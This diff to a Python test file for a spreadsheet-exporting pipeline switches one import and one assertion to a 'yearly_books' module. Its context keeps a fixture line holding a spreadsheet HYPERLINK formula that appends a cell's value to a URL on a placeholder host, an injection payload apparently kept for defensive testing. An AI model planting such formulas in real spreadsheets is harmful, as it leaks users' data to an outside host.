@@ -13,7 +13,7 @@ from click.testing import CliRunner
 
 from pipeline import engine
 from pipeline.cli import main
-from pipeline.outputs import books, exports
+from pipeline.outputs import books, exports, yearly_books
 
 FORMULA_HAL = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'
 
@@ -124,7 +124,7 @@ def test_the_books_in_the_archive_follow_every_change_and_verify_stays_clean(ws,
     cli("run")
     year = dt.date.today().year
     folder = ws.archive / str(year) / "buku"
-    assert {p.name for p in folder.iterdir()} == books.file_names(year)
+    assert {p.name for p in folder.iterdir()} == yearly_books.file_names(year)
     sheet = openpyxl.load_workbook(folder / f"buku-agenda-{year}.xlsx")["Unit Pengguna"]
     assert sheet["J5"].value == "Menunggu data"
     registration_yaml(ws.inbox / "registrasi.yaml")
